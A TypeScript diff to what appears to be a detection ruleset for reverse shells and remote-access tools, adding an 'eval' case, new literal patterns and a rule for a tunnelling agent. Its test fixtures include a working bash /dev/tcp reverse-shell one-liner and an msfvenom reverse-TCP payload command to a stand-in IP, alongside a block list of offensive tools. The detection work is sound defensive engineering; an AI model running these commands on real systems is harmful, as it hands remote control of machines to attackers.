@@ -43,7 +43,7 @@ const interactive = ({ args }: Command): boolean => !args.some(({ text }) => /^-
 export const openedDescriptor = ({ redirects }: Command): string | undefined => redirects.find(({ operator, target }) => /^<>?$/.test(operator) && /^\/dev\/(?:tcp|udp)\//.test(target?.text ?? ''))?.fd?.toString();
 
 /** Whether a command that it was sent, or a shell, is joined to one of these descriptors. */
-export const usesDescriptor = ({ name, redirects }: Command, descriptors: ReadonlySet<string>): boolean => (isShell(name) || name.startsWith('$')) && redirects.some(({ target }) => target !== undefined && descriptors.has(target.text));
+export const usesDescriptor = ({ name, redirects }: Command, descriptors: ReadonlySet<string>): boolean => (isShell(name) || name.startsWith('$') || name === 'eval') && redirects.some(({ target }) => target !== undefined && descriptors.has(target.text));
 
 export const reverseShellRules: readonly CommandRule[] = [
   {
@@ -52,7 +52,7 @@ export const reverseShellRules: readonly CommandRule[] = [
     severity: 'critical',
     sees: 'a shell joined to a network connection through `/dev/tcp` or `/dev/udp`',
     programs: ['*'],
-    literals: ['/dev/tcp', '/dev/udp'],
+    literals: ['/dev/tcp', '/dev/udp', '<>$', '<>"$'],
     positive: bash('bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'),
     nearMiss: bash('until (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done'),
     source: 'https://gtfobins.github.io/gtfobins/bash/#reverse-shell',
@@ -172,8 +172,8 @@ export const reverseShellRules: readonly CommandRule[] = [
     type,
     severity: 'high',
     sees: 'a terminal or program shown on another machine, or a payload made for one',
-    programs: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'villain', 'weevely', 'pwncat-cs', 'sliver-server', 'evil-winrm', 'gsocket', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo-agent', 'merlinagent', 'code', 'code-insiders', 'code-tunnel', 'devtunnel'],
-    literals: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'weevely', 'pwncat', 'sliver', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo', 'code tunnel', 'code-tunnel', 'code-insiders tunnel', 'devtunnel'],
+    programs: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'villain', 'weevely', 'pwncat-cs', 'sliver-server', 'evil-winrm', 'gsocket', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo-agent', 'merlinagent', 'agent', 'code', 'code-insiders', 'code-tunnel', 'devtunnel'],
+    literals: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'weevely', 'pwncat', 'sliver', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo', 'agent -connect', 'agent -bind', '-ignore-cert', 'code tunnel', 'code-tunnel', 'code-insiders tunnel', 'devtunnel'],
     positive: bash('msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.4 LPORT=4444 -f elf -o shell.elf'),
     nearMiss: bash('TERM=xterm ls; xterm -e top; chisel --help'),
     source: 'MITRE ATT&CK T1219',
@@ -181,6 +181,7 @@ export const reverseShellRules: readonly CommandRule[] = [
       const text = lineOf(words);
       if (words.length === 0 || /^-{1,2}(?:help|version|h|v)$/.test(text)) return name === 'gs-netcat';
       if (name === 'code' || name === 'code-insiders') return /^tunnel\b(?!.*\b(?:status|unregister|kill|prune)\b)/.test(text);
+      if (name === 'agent') return /-(?:connect|bind) \S+:\d{2,5}\b.*-(?:ignore-cert|retry|accept-fingerprint)|-connect \S+:11601\b/.test(text);
       if (name === 'devtunnel') return /^host\b.*(?:--allow-anonymous|-a\b)/.test(text);
       if (name === 'xterm') return /-display \S*:\d/.test(text) && !/-display (?:localhost|127\.0\.0\.1)?:\d/.test(text);
       if (name === 'msfvenom') return /(?:^| )(?:-p|--payload)/.test(text);
